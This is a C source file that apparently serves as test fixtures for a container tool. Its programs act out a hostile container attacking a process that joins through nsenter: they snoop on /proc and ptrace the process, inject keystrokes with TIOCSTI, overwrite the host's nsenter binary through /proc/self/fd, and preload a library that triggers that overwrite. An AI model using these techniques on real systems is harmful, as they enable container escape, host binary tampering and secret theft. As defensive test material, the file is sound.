// SPDX-License-Identifier: MIT
// attacks.c: what a hostile container does to a process that joins it. One
// program for each name that the compiler is given with -D.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#ifdef PEEK
// As PID 1: everybody else here is looked at before it is what it will be.
static int opens(const char *pid, const char *name)
{
	char path[300];
	int fd;

	snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
	fd = open(path, O_RDONLY);
	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

static int joins(const char *pid)
{
	char path[300], comm[32] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0 && read(fd, comm, sizeof comm - 1) < 0)
		comm[0] = '\0';
	close(fd);
	return strncmp(comm, "nsenter", 7) == 0;
}

int main(void)
{
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;

		while ((entry = readdir(processes))) {
			const char *pid = entry->d_name;
			const char *verdict = "refused\n";
			int fd;

			if (*pid < '1' || *pid > '9' || !joins(pid))
				continue;
			if (opens(pid, "environ") || opens(pid, "exe") ||
			    opens(pid, "mem"))
				verdict = "read\n";
			else if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0)
				verdict = "traced\n";
			if (!joins(pid)) // has executed the command meanwhile
				continue;
			fd = open("/tmp/seen", O_WRONLY | O_CREAT | O_APPEND,
				  0666);
			dprintf(fd, "%s", verdict);
			close(fd);
		}
		closedir(processes);
		usleep(1000);
	}
}
#endif

#ifdef TYPE
int main(void)
{
	for (int fd = 0; fd < 3; fd++) {
		const char *text = "femur\n";

		while (*text && ioctl(fd, TIOCSTI, text) == 0)
			text++;
		if (!*text)
			break;
	}
	return 0;
}
#endif

#ifdef OVERWRITE
// Until nobody executes the file any more: then it can be written.
int main(int argc, char *argv[])
{
	FILE *report;
	char path[64];
	int fd = -1;

	(void)argc;
	snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
	for (int tries = 0; tries < 500 && fd < 0; tries++) {
		fd = open(path, O_WRONLY | O_TRUNC);
		if (fd < 0 && errno != ETXTBSY)
			break;
		usleep(10000);
	}
	if (fd >= 0 && write(fd, "femur", 5) == 5)
		errno = 0;
	report = fopen("/tmp/verdict", "w");
	fprintf(report, "%s\n", errno ? strerror(errno) : "written");
	fclose(report);
	return rename("/tmp/verdict", "/tmp/overwritten");
}
#endif

#ifdef LIBRARY
// Loaded into whatever is executed inside; acts in the one that came from
// outside.
__attribute__((constructor)) static void act(void)
{
	char link[300] = "", number[16];

	if (readlink("/proc/self/exe", link, sizeof link - 1) < 0 ||
	    !strstr(link, "nsenter"))
		return;
	snprintf(number, sizeof number, "%d", open("/proc/self/exe", O_RDONLY));
	if (fork() == 0) {
		setsid();
		unsetenv("LD_PRELOAD");
		execl("/bin/overwrite", "overwrite", number, NULL);
		_exit(1);
	}
}
#endif
